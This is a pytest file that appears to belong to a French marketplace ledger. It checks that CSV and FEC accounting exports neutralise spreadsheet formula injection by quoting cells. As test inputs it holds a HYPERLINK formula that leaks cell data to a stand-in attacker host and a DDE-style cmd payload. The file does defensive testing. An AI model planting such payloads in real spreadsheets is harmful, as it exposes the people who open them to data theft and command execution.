"""Exports never carry a live spreadsheet formula: a name like "=HYPERLINK(...)" is written as text."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from marketplace.core.money import decimal_comma
from marketplace.core.spreadsheet import FORMULA_START
from marketplace.ledger.fec import fec_for_cluster
from marketplace.ledger.queries import spreadsheet_cell, spreadsheet_csv
from marketplace.ledger.rules import Line
from marketplace.ledger.services import of_cluster, post
from marketplace.payments.services import import_statement
from tests.conftest import login
from tests.factories import PASSWORD
from tests.ledger.fec_format import check_fec
from tests.payments.camt_sample import entry, statement

LEAK = '=HYPERLINK("http://evil.example/?leak="&C2,"x")'


@pytest.mark.parametrize("cell,written", [
    (LEAK, "'" + LEAK),
    ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("  =1+1", "'  =1+1"),
    ("-", "'-"),
    ("-12,34", "-12,34"),
    (decimal_comma(-123_450), "-1234,50"),
    ("1234,50", "1234,50"),
    (-5, "-5"),
    (42, "42"),
    (None, ""),
    ("", ""),
    ("Cluster Alpha", "Cluster Alpha"),
    ("Solde d'ouverture", "Solde d'ouverture"),
    ("2026-10", "2026-10"),
])
def test_a_cell_is_never_a_formula_and_numbers_stay_numbers(cell, written):
    assert spreadsheet_cell(cell) == written


def test_every_cell_of_a_spreadsheet_csv_is_neutralised():
    raw = spreadsheet_csv([["Nom", "Montant"], [LEAK, decimal_comma(-1234)], ["@x", -5]])
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert rows == [["Nom", "Montant"], ["'" + LEAK, "-12,34"], ["'@x", "-5"]]


def test_a_payer_name_from_a_bank_statement_is_text_in_the_ledger_csv(app, client, db, factories):
    with app.test_request_context():
        admin = factories.make_user("tresor@federation.fr", is_platform_admin=True)
        import_statement(db, "releve.xml", statement(entry("E1", 4200, "inconnue", structured=False,
                                                           payer=LEAK.replace("&", "&amp;").replace('"', "&quot;"))),
                         admin.id)
        db.commit()
    login(client, admin.email, PASSWORD)
    response = client.get("/console/ledger?format=csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))
    labels = [row[7] for row in rows[1:]]
    # The payer's name stands inside the label (« Virement lu sur le relevé bancaire · =HYPERLINK… »), never
    # at its start, where a spreadsheet would run it.
    assert labels and all(LEAK in label and not label.startswith(FORMULA_START) for label in labels)
    assert not any(cell.startswith("=") for row in rows for cell in row)
    assert {(row[8], row[9]) for row in rows[1:]} == {("42,00", "0,00"), ("0,00", "42,00")}


def test_fec_free_text_is_never_a_formula_and_keeps_its_format(app, db, factories):
    with app.test_request_context():
        cluster = factories.make_cluster(slug="fec", siret="41245838200014")
        post(db, "test:1", "Écriture de test", [
            Line(of_cluster(cluster.id, "467"), debit_cents=1234, label=LEAK),
            Line(of_cluster(cluster.id, "706"), credit_cents=1234, label="\t@SUM(A1:A9)"),
        ], date(2026, 3, 14), "sale", "VT")
        db.commit()
        body = check_fec(fec_for_cluster(db, cluster, 2026))
    assert [row[10] for row in body] == ["'" + LEAK, "'@SUM(A1:A9)"]
    assert [(row[11], row[12]) for row in body] == [("12,34", "0,00"), ("0,00", "12,34")]
